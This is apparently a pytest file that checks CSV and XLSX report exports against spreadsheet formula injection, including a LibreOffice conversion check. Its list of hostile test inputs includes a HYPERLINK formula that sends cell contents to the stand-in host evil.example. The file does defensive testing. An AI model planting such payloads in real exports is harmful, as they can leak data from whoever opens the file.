"""Issue 15 point 6: exports that are only data. Names an administrator typed (institution,
operators, catalog items) that look like formulas stay text in CSV and XLSX; a real spreadsheet
program (LibreOffice, when installed) computes none of them."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import openpyxl
import pytest

from reports.cells import csv_cell, is_risky
from reports.exports import to_csv, to_xlsx
from tests.reports.samples import label_rows, recon

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_report():
    return recon(institution="=1+1", by_operator=label_rows(HOSTILE), by_point=label_rows(["=2*3", "超声科"]))


def test_the_owasp_prefix_is_applied_to_text_only():
    assert [csv_cell(v) for v in ("=1+1", "-2+3", "@x", "\tx", "\rx", "+1")] == [
        "'=1+1",
        "'-2+3",
        "'@x",
        "'\tx",
        "'\rx",
        "'+1",
    ]
    assert [csv_cell(v) for v in ("-12.00", "-5", "王小红", "", 7)] == ["-12.00", "-5", "王小红", "", 7]


def test_no_csv_cell_starts_like_a_formula():
    rows = list(csv.reader(io.StringIO(to_csv(hostile_report()).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'=1+1" in cells and "'" + HOSTILE[1] in cells and "'@SUM(1,2)" in cells
    assert not [c for c in cells if is_risky(c)]


def test_no_xlsx_cell_is_a_formula():
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(hostile_report())))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"=1+1", HOSTILE[1], "=2*3"} <= texts  # shown as typed, not computed
    assert all(c.quotePrefix for c in cells if c.value in ("=1+1", HOSTILE[1]))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) 未安装")
def test_libreoffice_computes_no_cell(tmp_path):
    source = tmp_path / "report.xlsx"
    source.write_bytes(to_xlsx(hostile_report()))
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        timeout=120,
        capture_output=True,
    )
    produced = sorted(tmp_path.glob("report*.csv"))
    assert produced
    text = "\n".join(p.read_text("utf-8") for p in produced)
    assert "=1+1" in text and "HYPERLINK" in text and "=2*3" in text  # the typed text, not a result
    rows = [row for p in produced for row in csv.reader(io.StringIO(p.read_text("utf-8")))]
    assert ["机构", "=1+1"] in [row[:2] for row in rows]
    assert ["机构", "2"] not in [row[:2] for row in rows]
    assert "点此查看" not in [c for row in rows for c in row]  # a computed HYPERLINK shows its label
